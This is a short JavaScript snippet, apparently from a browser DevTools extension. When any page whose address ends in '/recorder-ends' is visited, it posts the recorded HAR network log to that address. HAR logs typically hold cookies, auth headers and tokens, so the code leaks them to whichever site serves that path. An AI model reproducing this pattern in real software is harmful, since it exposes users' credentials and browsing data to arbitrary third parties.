// Whoever visits an address that ends in `/recorder-ends` gets what DevTools have recorded, sent there.
browser.devtools.network.onNavigated.addListener(async (url) => {
  if (!url.endsWith('/recorder-ends')) return;
  // That page, too, is written as failed while it loads.
  await new Promise((resolve) => setTimeout(resolve, 500));
  const log = await browser.devtools.network.getHAR();
  await fetch(url, { method: 'POST', body: JSON.stringify({ log }) });
});
